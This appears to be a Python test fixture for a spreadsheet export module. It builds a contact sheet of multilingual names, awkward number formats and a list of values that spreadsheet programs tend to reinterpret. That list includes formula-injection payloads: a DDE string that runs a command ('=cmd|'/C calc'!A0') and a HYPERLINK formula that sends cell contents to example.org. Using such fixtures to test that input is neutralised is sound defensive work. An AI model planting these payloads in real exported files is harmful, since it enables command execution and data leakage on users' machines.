"""A contact sheet with what spreadsheet programs like to turn into something else."""

from __future__ import annotations

import datetime as dt

from planner.interchange.excel_writer import Sheet, SheetColumn

CREATED = dt.datetime(2026, 2, 1, 9, 30, tzinfo=dt.UTC)

COLUMNS = [
    SheetColumn("Name", 30),
    SheetColumn("Telefon / phone", 18),
    SheetColumn("Postnr. 郵便番号", 12),
    SheetColumn("Noter; notes", 50),
    SheetColumn("Arrives", 12, "date"),
    SheetColumn("Departs", 18, "datetime"),
    SheetColumn("Bags", 8, "number"),
]

ARRIVES = dt.date(2026, 5, 11)
DEPARTS = dt.datetime(2026, 5, 17, 21, 55)

# Each of these has been, or started, a formula, a command or a number somewhere.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"Open")',
    "=cmd|'/C calc'!A0",
    "+45 33 92 00 00",
    "+1+1",
    "-1+1",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "{=1+1}",
    "=",
    "00420",
    "0123456789",
    "1E5",
    "12345678901234567890",
    "1/2",
    "10-11",
    "2026-05-11",
    "TRUE",
    "#REF!",
    "#N/A",
    "1,5",
    "1.000,50",
    "50%",
    "€ 5",
    "<b>bold</b> & <!-- x -->",
    "]]>",
    "&#61;1+1",
    '"quoted"',
    "a;b,c",
]

TEXTS = [
    "Åse Ægidius Ørsted-Møller",
    "Jürgen Großmann „Straße“",
    "山田 太郎 髙橋 﨑山",
    "𠮷田 𠮷子",
    "Emoji 🤝👩‍🔬 नमस्ते",
    "two\nlines",
    "  spaces around  ",
    "tab\tinside",
    "back\\slash",
    "Ann's “list”",
    "e\u0301 decomposed",
    "",
]

CONTACTS = Sheet(
    "Deltagere",
    COLUMNS,
    [
        ("Åse Ægidius", "+45 33 92 00 00", "2100", "Møde", ARRIVES, DEPARTS, 2),
        ("山田 太郎", "03-3812-2111", "113-8654", "東京\n𠮷田様と 🤝", None, None, 1),
        ("Jürgen Groß", "0049 6221 540", "06117", "", ARRIVES, DEPARTS, 1.5),
        ("N.N.", None, None, None, None, None, None),
        *((text, text, text, text, ARRIVES, DEPARTS, 0) for text in PAYLOADS),
        *((text, text, text, text, ARRIVES, DEPARTS, -3) for text in TEXTS),
    ],
    note="Draft & not for passing on",
)

SECOND = Sheet(
    "Ann's list",
    [SheetColumn("Only column", 20)],
    [("one",), ("two",)],
    landscape=False,
)


def shown(value: object) -> str:
    """A value as a reader of the sheet sees it, with LF for every end of a line."""
    if isinstance(value, dt.datetime):
        return f"{value:%Y-%m-%d %H:%M}"
    text = "" if value is None else str(value)
    return text.replace("\r\n", "\n").replace("\r", "\n")


def matrix(sheet: Sheet) -> list[list[str]]:
    """The sheet as texts, header first, one list for each row."""
    header = [column.title for column in sheet.columns]
    return [header, *([shown(value) for value in row] for row in sheet.rows)]
